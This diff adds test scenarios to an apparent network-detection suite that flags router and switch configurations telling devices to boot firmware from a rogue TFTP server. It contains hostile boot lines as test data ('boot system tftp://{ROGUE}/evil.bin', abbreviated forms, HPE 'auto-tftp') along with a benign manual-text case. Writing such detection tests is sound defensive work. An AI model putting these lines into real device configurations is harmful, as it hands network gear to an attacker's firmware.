@@ -115,3 +115,49 @@ def bw08_web_page_about_it(wire: Wire) -> None:
         kind="text/html",
         agent="Mozilla/5.0",
     )
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    raises=[("BW08", 0, SERVER, f"10.0.1.{n}") for n in (41, 42, 43)],
+    site=HQ,
+    with_site=Expect(tuple(served(f"sw{n}-confg", device=f"10.0.1.{n}") for n in (41, 42, 43))),
+)
+def bw08_written_by_hand(wire: Wire) -> None:
+    """Boot lines as a hand may write them: abbreviated, with tabs, first in the file; and HPE's own command."""
+    lines = (
+        f"hostname sw41\n!\nbo sy t evil.bin {ROGUE}\nend\n",
+        f"boot\tsystem\ttftp://{ROGUE}/evil.bin\nend\n",
+        f'; J9019A Configuration Editor; \n\nhostname "sw43"\nauto-tftp {ROGUE} "Q.swi"\n',
+    )
+    for number, text in enumerate(lines, 41):
+        tftp.read(wire, f"10.0.1.{number}", SERVER, f"sw{number}-confg", text.encode())
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    raises=[("BW08", 4, SERVER, "10.0.1.44"), ("BW08", 5, SERVER, "10.0.1.45")],
+    site=HQ,
+    with_site=Expect((served("/sw44.cfg", device="10.0.1.44"), served("sw45.cfg", device="10.0.1.45"))),
+)
+def bw08_hpe_by_http_and_ftp(wire: Wire) -> None:
+    """The configuration of an HPE switch, by HTTP and by FTP, makes it fetch its image at every start."""
+    text = f'; J9019A Configuration Editor\n\nhostname "sw"\nauto-tftp {ROGUE} "Q_evil.swi"\n'.encode()
+    http.get(wire, "10.0.1.44", SERVER, "/sw44.cfg", text, kind="text/plain", client_port=50081)
+    ftp.retrieve(wire, "10.0.1.45", SERVER, "sw45.cfg", text)
+
+
+@scenario("BW08", "benign", site=HQ, with_site=Expect())
+def bw08_prose_about_it(wire: Wire) -> None:
+    """A manual comes by FTP, HTTP and TFTP; its lines happen to break before the commands that it explains."""
+    manual = (
+        "Loading images from the network\n\nTo have a router load its image from a server, use the\n"
+        "boot system tftp command in global configuration mode. Where the server answers at\n"
+        f"boot system tftp://{ROGUE}/image.bin is tried before the flash is, whatever comes first.\n"
+        "auto-tftp on the other hand is what switches of another vendor call the same thing.\n"
+    ).encode() * 3
+    ftp.retrieve(wire, "10.20.1.40", "10.20.0.9", "manual.txt", manual)
+    http.get(wire, "10.20.1.40", "93.184.216.34", "/manual.txt", manual, kind="text/plain", client_port=50082)
+    tftp.read(wire, "10.20.1.40", SERVER, "manual.txt", manual)
